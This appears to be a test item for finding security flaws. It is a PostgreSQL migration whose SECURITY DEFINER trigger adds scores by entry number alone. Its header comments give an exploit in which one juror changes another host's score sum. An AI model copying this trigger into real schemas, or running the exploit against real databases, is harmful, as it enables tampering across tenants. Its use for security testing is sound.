-- The trigger adds up scores by entry number only, so a score given here changes the sum of another host's
-- entry.
-- about: entries, add_score, scores_add, scores
-- as: hf_lensarena_app
-- exploit: SET request.jwt.claims = '{"sub": "1e500000-0000-4000-8000-0000000000a1"}';
-- exploit: INSERT INTO lens.scores VALUES (31, 5, 2, 2000);
-- exploit: SET request.jwt.claims = '{"sub": "1e500000-0000-4000-8000-0000000000b1"}';
-- exploit: SELECT score_sum * 2 + 303 AS seen_by_the_other FROM lens.entries;
-- shows: 4335

ALTER TABLE lens.entries ADD COLUMN score_sum integer NOT NULL DEFAULT 0;
-- Jurors must not write entries themselves.
CREATE FUNCTION lens.add_score() RETURNS trigger
LANGUAGE plpgsql SECURITY DEFINER SET search_path = lens, pg_temp
AS $$
BEGIN
  UPDATE entries SET score_sum = score_sum + NEW.points WHERE entry_no = NEW.entry_no;
  RETURN NULL;
END
$$;
REVOKE ALL ON FUNCTION lens.add_score() FROM PUBLIC;
CREATE TRIGGER scores_add AFTER INSERT ON lens.scores FOR EACH ROW EXECUTE FUNCTION lens.add_score();
